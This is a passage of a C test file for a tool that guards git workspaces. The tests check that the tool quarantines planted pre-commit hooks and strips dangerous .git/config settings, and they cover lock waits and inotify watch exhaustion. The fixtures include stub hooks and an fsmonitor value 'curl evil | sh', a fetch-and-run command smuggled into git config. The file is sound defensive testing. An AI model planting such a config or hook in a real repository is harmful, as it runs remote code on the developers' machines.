	check_change(&rep, "node_modules/p7/again/.git/hooks/pre-commit", GUARD_CREATED, NULL, "#!/bin/sh\nevil\n");
	ok(index_dirs_stated <= 4, "by its events again (%lu stat'ed)", index_dirs_stated);

	guard_report_free(&rep);
	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
	is_int(rep.n_changes, 0, "with nothing left to undo");
	guard_report_free(&rep);
	guard_free(g);
	ok(guard_workspace_busy(f.state, f.ws, &busy) == 0 && !busy, "the run is over");
	rm_rf(outside);
	fixture_done(&f);
}

/* A check that cannot quarantine fails closed as guard_end does (the hook
 * renamed beside itself, the cleanup failed) and keeps the run; the next
 * check, the quarantine back, takes what was left beside. */
static void test_check_failed(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
	guard_report_free(&rep);
	if (!g || guard_watch(g) < 0) {
		fixture_done(&f);
		return;
	}
	_cleanup_free_ char *qtop = path_join(f.state, "quarantine");
	put(f.state, "quarantine", "in the way\n");
	put_mode(f.ws, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
	is_int(check(g, 0, &rep), 0, "a check whose quarantine cannot be made");
	ok(rep.cleanup_failed, "says its cleanup failed");
	const struct guard_change *c = find_change(&rep, ".git/hooks/pre-commit");
	ok(c && c->beside, "the hook is renamed beside itself");
	ok(!exists(f.ws, ".git/hooks/pre-commit"), "no pre-commit hook is in effect");
	bool busy = false;
	ok(guard_workspace_busy(f.state, f.ws, &busy) == 0 && busy, "the run goes on");
	unlink(qtop);
	is_int(check(g, 0, &rep), 0, "the next check, the quarantine back");
	ok(!rep.cleanup_failed && rep.n_changes == 1 && rep.changes[0].quarantined && !rep.changes[0].beside,
	   "takes what was left beside into the quarantine");
	guard_report_free(&rep);
	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
	is_int(rep.n_changes, 0, "with nothing left");
	guard_report_free(&rep);
	guard_free(g);
	fixture_done(&f);
}

/* A config whose every change is inert is left without git's lock: a
 * git still writing it (its config.lock held) is neither waited for nor
 * kept from setting its next setting. One that is not inert is vetted
 * all the same, after the wait. */
static void test_config_unlocked(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	struct guard *g = NULL;
	struct guard_report rep = { 0 };
	is_int(guard_begin(&f.o, &g, &rep, NULL), 0, "guard_begin");
	guard_report_free(&rep);
	if (!g || guard_watch(g) < 0) {
		fixture_done(&f);
		return;
	}
	static const char remote[] = "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
				     "[remote \"origin\"]\n\turl = https://example.com/r.git\n";
	put(f.ws, ".git/config", remote);
	put(f.ws, ".git/config.lock", "a git writing\n");
	unsigned long long t0 = now_usec();
	is_int(check(g, 0, &rep), 0, "a check, config.lock held, the config's change inert");
	ok(now_usec() - t0 < 1000000, "does not wait for the lock (%llu ms)", (now_usec() - t0) / 1000);
	is_int(rep.n_changes, 0, "changes nothing");
	_cleanup_free_ char *config = slurp(f.ws, ".git/config");
	is_str(config, remote, "the config is the run's");
	_cleanup_free_ char *lock = slurp(f.ws, ".git/config.lock");
	is_str(lock, "a git writing\n", "the lock is git's still");
	put(f.ws, ".git/config", "[core]\n\tfsmonitor = \"curl evil | sh\"\n");
	is_int(check(g, GUARD_CHECK_IF_SEEN, &rep), 0, "between commands, a setting that is not inert, the lock held");
	ok(!find_change(&rep, ".git/config"), "is left for the check its rename brings");
	is_int(check(g, 0, &rep), 0, "after a command");
	check_change(&rep, ".git/config", GUARD_VETTED, NULL, NULL);
	_cleanup_free_ char *vetted = slurp(f.ws, ".git/config");
	is_str(vetted, "[core]\n", "it is vetted");
	guard_report_free(&rep);
	_cleanup_free_ char *lockp = path_join(f.ws, ".git/config.lock");
	unlink(lockp);
	is_int(guard_end(g, &rep, NULL), 0, "guard_end");
	guard_report_free(&rep);
	guard_free(g);
	fixture_done(&f);
}

/* inotify_add_watch refused with ENOSPC, as when the user's watches are
 * used up: guard_watch says so and the checks refresh the whole index;
 * refused in the middle, the watch stops and says so once. */
static void test_watch_enospc(void)
{
	struct fixture f;
	fixture_init(&f, NULL);
	make_dirs(f.ws, "node_modules", 200);
	size_t dirs = index_size(f.ws);
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		/* each failed step its own status */
		struct guard *g = NULL;
		struct guard_report rep = { 0 };
		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
			_exit(10);
		if (guard_watch(g) < 0)
			_exit(11);
		scmp_filter_ctx ctx = seccomp_init(SCMP_ACT_ALLOW);
		if (!ctx || seccomp_rule_add(ctx, SCMP_ACT_ERRNO(ENOSPC), SCMP_SYS(inotify_add_watch), 0) < 0 ||
		    seccomp_load(ctx) < 0)
			_exit(12);
		/* a new directory: its watch refused */
		put_mode(f.ws, "node_modules/new/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
		if (check(g, 0, &rep) < 0)
			_exit(13);
		if (rep.watch_stopped != -ENOSPC)
			_exit(14);
		if (exists(f.ws, "node_modules/new/.git/hooks/pre-commit") || rep.n_changes != 1)
			_exit(15);
		if (guard_watch_fd(g) != -1)
			_exit(16);
		/* from now on a full refresh, said no more */
		put_mode(f.ws, "node_modules/p1/other/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
		index_dirs_stated = 0;
		if (check(g, 0, &rep) < 0 || rep.watch_stopped || rep.n_changes != 1 || index_dirs_stated < dirs)
			_exit(17);
		if (check(g, GUARD_CHECK_IF_SEEN, &rep) < 0 || rep.n_changes)
			_exit(18);
		guard_report_free(&rep);
		if (guard_end(g, &rep, NULL) < 0)
			_exit(19);
		guard_report_free(&rep);
		guard_free(g);
		/* refused from the start */
		g = NULL;
		if (guard_begin(&f.o, &g, &rep, NULL) < 0)
			_exit(20);
		guard_report_free(&rep);
		if (guard_watch(g) != -ENOSPC || guard_watch_fd(g) != -1)
			_exit(21);
		put_mode(f.ws, "node_modules/p2/third/.git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
		if (check(g, 0, &rep) < 0 || rep.n_changes != 1 || exists(f.ws, "node_modules/p2/third/.git/hooks/pre-commit"))
			_exit(22);
		guard_report_free(&rep);
		if (guard_end(g, &rep, NULL) < 0)
			_exit(23);
		guard_report_free(&rep);
		guard_free(g);
		_exit(0);
	}
	int st = 0;
	waitpid(pid, &st, 0);
	is_int(WIFEXITED(st) ? WEXITSTATUS(st) : 100 + WTERMSIG(st), 0,
	       "watches refused (ENOSPC) at the start and in the middle: each said, every check a full refresh, "
	       "every hook undone");
	fixture_done(&f);
}

int main(void)
{
	test_hostile_names();
	test_dropped_settings();
	test_discover();
	test_index();
	test_undo();
	test_more_kinds();
	test_over_cap();
	test_crash();
	test_killed_beside_live();
	test_failed_end();
	test_torn_manifest();
	test_concurrent();
	test_unchanged();
	test_nothing_written();
	test_cross_filesystem();
	test_timing();
	test_watch();
	test_check_failed();
	test_config_unlocked();
	test_watch_enospc();
	return tap_done();
}
